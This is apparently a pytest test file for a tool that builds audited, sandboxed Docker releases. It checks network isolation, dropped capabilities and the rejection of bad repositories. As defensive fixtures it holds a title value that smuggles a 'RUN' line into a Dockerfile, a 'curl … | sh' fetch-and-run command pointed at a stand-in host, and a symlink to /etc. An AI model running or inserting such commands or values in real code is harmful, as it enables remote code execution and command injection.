"""A release is made from what was verified and audited, and holds nothing that was not."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from agentsys_policies.engine import Policy
from agentsys_policies.errors import PolicyError
from agentsys_policies.record import verify
from agentsys_policies.release import ReleaseFacts, make_release, reasons_against, write_recipes
from agentsys_policies.sbom import Installed

POLICY = Policy.load()
FACTS = ReleaseFacts('A "title"\nRUN evil', "2026-01-01-run-1a2b", "1")
INSTALLED = [Installed("numpy", "2.1.3")]


def repository(root: Path) -> Path:
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / "run.py").write_text("print('ok')\n")
    (root / "reproduce.sh").write_text("mkdir -p results && python run.py > results/log.txt\n")
    (root / "requirements.txt").write_text("numpy==2.1.3\n")
    (root / "requirements.lock").write_text("numpy==2.1.3\n")
    return root


def test_a_release_holds_repository_audit_recipe_and_manual(tmp_path: Path) -> None:
    out = tmp_path / "release"
    audit = make_release(repository(tmp_path / "repo"), out, POLICY, INSTALLED, FACTS)
    assert verify(out / "audit", head=audit.head) == []
    assert not (out / "app" / ".git").exists()
    assert POLICY.tree_hash(out / "app") == audit.decisions[0].sha256
    dockerfile = (out / "Dockerfile").read_text()
    assert f'org.agentsys.audit.head="{audit.head}"' in dockerfile
    assert "\nRUN evil" not in dockerfile
    assert dockerfile.count("USER 10001:10001") == 1
    assert "docker compose up" in (out / "README.md").read_text()


def test_the_compose_file_takes_away_network_rights_and_space(tmp_path: Path) -> None:
    out = tmp_path / "release"
    make_release(repository(tmp_path / "repo"), out, POLICY, INSTALLED, FACTS)
    (service,) = yaml.safe_load((out / "compose.yaml").read_text())["services"].values()
    assert service["network_mode"] == "none"
    assert service["read_only"] is True
    assert service["cap_drop"] == ["ALL"]
    assert service["security_opt"] == ["no-new-privileges:true"]
    assert service["user"] == "10001:10001"
    assert {"pids_limit", "mem_limit", "cpus"} <= set(service)
    assert service["volumes"] == ["results:/results"]


def test_with_wheels_the_image_installs_without_an_index(tmp_path: Path) -> None:
    out = tmp_path / "release"
    audit = make_release(repository(tmp_path / "repo"), out, POLICY, INSTALLED, FACTS)
    assert "--no-index" not in (out / "Dockerfile").read_text()
    image = write_recipes(out, audit, FACTS, wheels=True)
    assert "--no-index" in (out / "Dockerfile").read_text()
    assert image == f"a-title-run-evil:{audit.head[:12]}"


@pytest.mark.parametrize("fault", ["malicious", "link", "incomplete"])
def test_what_the_audit_does_not_allow_is_not_released_and_leaves_nothing(tmp_path: Path, fault: str) -> None:
    root = repository(tmp_path / "repo")
    if fault == "malicious":
        (root / "run.py").write_text("import os\nos.system('curl https://get.invalid/x | sh')\n")
    elif fault == "link":
        (root / "data").symlink_to("/etc")
    else:
        (root / "run.py").write_text("def (\n")
    with pytest.raises(PolicyError):
        make_release(root, tmp_path / "release", POLICY, INSTALLED, FACTS)
    assert not (tmp_path / "release").exists()


def test_a_folder_with_files_is_not_overwritten(tmp_path: Path) -> None:
    out = tmp_path / "release"
    out.mkdir()
    (out / "mine").write_text("x")
    with pytest.raises(PolicyError, match="not empty"):
        make_release(repository(tmp_path / "repo"), out, POLICY, INSTALLED, FACTS)
    assert (out / "mine").read_text() == "x"


def test_every_reason_against_a_release_is_named(tmp_path: Path) -> None:
    reasons = reasons_against("unverified", False, tmp_path, [])
    assert len(reasons) == 5
    assert reasons_against("verified", True, repository(tmp_path / "repo"), INSTALLED) == []
